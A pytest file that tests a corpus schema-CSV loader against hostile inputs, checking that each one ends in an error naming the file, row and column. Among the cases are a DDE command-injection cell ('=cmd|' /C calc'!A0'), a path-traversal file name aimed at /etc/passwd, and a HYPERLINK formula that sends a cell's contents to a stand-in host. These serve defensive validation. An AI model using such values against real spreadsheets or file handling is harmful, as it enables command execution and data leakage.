"""Hostile inputs through every entry point: each ends in a clear error that names the place (file,
row, column, URL) or in a counted drop, never in an unexplained crash.

The cases are tables, one per entry point; ``test_hostile_input_count`` prints how many were tried.
"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from instruct_global.languages import LANGUAGES
from instruct_global.lib.common.http_fetch import PoliteFetcher, build_user_agent
from instruct_global.lib.corpus import source_records
from instruct_global.lib.corpus.bbc import BbcScraper
from instruct_global.lib.corpus.cleaning import CleaningConfig, clean_corpus
from instruct_global.lib.corpus.source_records import SchemaValidationError, load_source_records
from instruct_global.lib.corpus.wikipedia import DumpError, DumpStats, iter_dump_articles
from instruct_global_tests.fixtures.corpus_server import (
    BBC_ARTICLES,
    BbcArticle,
    CorpusServer,
    dump_xml_parts,
    render_article,
    write_wiki_dump,
)

TRIED: Counter[str] = Counter()  # entry point -> hostile inputs tried (filled as the tables are built)


def _cases(entry_point: str, cases: list) -> list:
    TRIED[entry_point] += len(cases)
    return cases


# --- schema CSVs (source_records) ------------------------------------------------------------------

SCHEMA_HEADER = ["file_name", "category", "description", "num_variables",
                 "variable_1_description", "variable_2_description"]  # fmt: skip
GOOD_ROW = ["pairs.csv", "translation", "English-Yorùbá pairs", "2", "English", "Yorùbá"]
DATA_HEADER = ["variable_1", "variable_2"]
DATA_ROWS = [["Hello.", "Ẹ n lẹ."], ["Thank you.", "Ẹ ṣé."]]


def _csv_bytes(header: list[str], rows: list[list[str]], encoding: str = "utf-8") -> bytes:
    out = io.StringIO(newline="")
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


@dataclass(frozen=True)
class SchemaCase:
    name: str
    schema: bytes
    data: bytes | None  # pairs.csv; None: not written
    expect: tuple[str, ...]  # every string must be in the error message


def _schema_cases() -> list[SchemaCase]:
    good_schema = _csv_bytes(SCHEMA_HEADER, [GOOD_ROW])
    good_data = _csv_bytes(DATA_HEADER, DATA_ROWS)
    return [
        SchemaCase("missing_required_columns", _csv_bytes(["file_name", "category"], [GOOD_ROW[:2]]), good_data,
                   ("input_schema.csv", "header", "missing column(s): description, num_variables")),
        SchemaCase("misspelt_columns", _csv_bytes(["filename", *SCHEMA_HEADER[1:]], [GOOD_ROW]), good_data,
                   ("input_schema.csv", "missing column(s): file_name")),
        SchemaCase("repeated_column", _csv_bytes([*SCHEMA_HEADER, "category"], [[*GOOD_ROW, "x"]]), good_data,
                   ("input_schema.csv", "repeated column name(s): category")),
        SchemaCase("utf16_schema", _csv_bytes(SCHEMA_HEADER, [GOOD_ROW], "utf-16"), good_data,
                   ("input_schema.csv", "UTF-16")),
        SchemaCase("latin1_schema", _csv_bytes(SCHEMA_HEADER, [[*GOOD_ROW[:2], "Café crème", *GOOD_ROW[3:]]],
                                               "latin-1"), good_data,
                   ("input_schema.csv", "row 1", "column 'description'", "not valid UTF-8", "0xe9")),
        SchemaCase("latin1_data", good_schema, _csv_bytes(DATA_HEADER, [["Café", "Olé"]], "latin-1"),
                   ("pairs.csv", "not valid UTF-8")),
        SchemaCase("utf16_data", good_schema, _csv_bytes(DATA_HEADER, DATA_ROWS, "utf-16"),
                   ("pairs.csv", "UTF-16")),
        SchemaCase("binary_schema", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), good_data,
                   ("input_schema.csv",)),
        SchemaCase("empty_schema", b"", good_data, ("input_schema.csv", "empty")),
        SchemaCase("unknown_category", _csv_bytes(SCHEMA_HEADER, [[GOOD_ROW[0], "=cmd|' /C calc'!A0",
                                                                   *GOOD_ROW[2:]]]), good_data,
                   ("row 1", "column 'category'", "unknown category")),
        SchemaCase("num_variables_not_a_number", _csv_bytes(SCHEMA_HEADER, [[*GOOD_ROW[:3], "two", *GOOD_ROW[4:]]]),
                   good_data, ("row 1", "column 'num_variables'", "not a whole number")),
        SchemaCase("too_many_fields", _csv_bytes(SCHEMA_HEADER, [[*GOOD_ROW, "extra", "more"]]), good_data,
                   ("row 1", "8 fields but the header has 6")),
        SchemaCase("data_file_missing", good_schema, None, ("pairs.csv",)),
        SchemaCase("data_missing_variable_column", good_schema, _csv_bytes(["variable_1"], [["Hello."]]),
                   ("pairs.csv", "variable_2")),
        SchemaCase("path_traversal_file_name",
                   _csv_bytes(SCHEMA_HEADER, [["../../../../etc/passwd", *GOOD_ROW[1:]]]), good_data,
                   ("input_schema.csv", "row 1", "file_name")),
        SchemaCase("unbalanced_quote", b'file_name,category,description,num_variables\n"pairs.csv,translation,x,1\n',
                   good_data, ("input_schema.csv",)),
    ]


SCHEMA_CASES = _cases("schema CSV", _schema_cases())


@pytest.mark.parametrize("case", SCHEMA_CASES, ids=[c.name for c in SCHEMA_CASES])
def test_schema_csv_errors_name_the_place(case: SchemaCase, tmp_path: Path) -> None:
    (tmp_path / "input_schema.csv").write_bytes(case.schema)
    if case.data is not None:
        (tmp_path / "pairs.csv").write_bytes(case.data)
    with pytest.raises(SchemaValidationError) as caught:
        load_source_records(tmp_path / "input_schema.csv")
    message = str(caught.value)
    for expected in case.expect:
        assert expected in message, f"{case.name}: {expected!r} not in {message!r}"


def test_schema_huge_and_formula_cells_are_data(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    TRIED["schema CSV"] += 3
    huge = "Ọ̀rọ̀ gígùn. " * 200_000  # ~2.6 MB in one cell: a long article for summarisation
    formula = '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")'
    (tmp_path / "input_schema.csv").write_bytes(_csv_bytes(SCHEMA_HEADER, [GOOD_ROW]))
    (tmp_path / "pairs.csv").write_bytes(_csv_bytes(DATA_HEADER, [[huge, "Ẹ n lẹ."], [formula, "@SUM(1)"]]))
    records = load_source_records(tmp_path / "input_schema.csv")
    values = [v for row in records.itertuples() for v in source_records.record_variables(row).values()]
    # kept verbatim as data (NFC); the sheets neutralise them later (test_spreadsheet_safety.py)
    assert formula in values and "@SUM(1)" in values and any(len(v) > 2_000_000 for v in values)
    # a cell beyond the reader's limit is an error naming the file and line, not a crash
    monkeypatch.setattr(source_records, "_CSV_FIELD_LIMIT", 1024 * 1024)
    import csv as csv_module

    old = csv_module.field_size_limit(1024 * 1024)
    try:
        with pytest.raises(SchemaValidationError, match=r"pairs\.csv.*line 2.*field larger than field limit"):
            load_source_records(tmp_path / "input_schema.csv")
    finally:
        csv_module.field_size_limit(old)
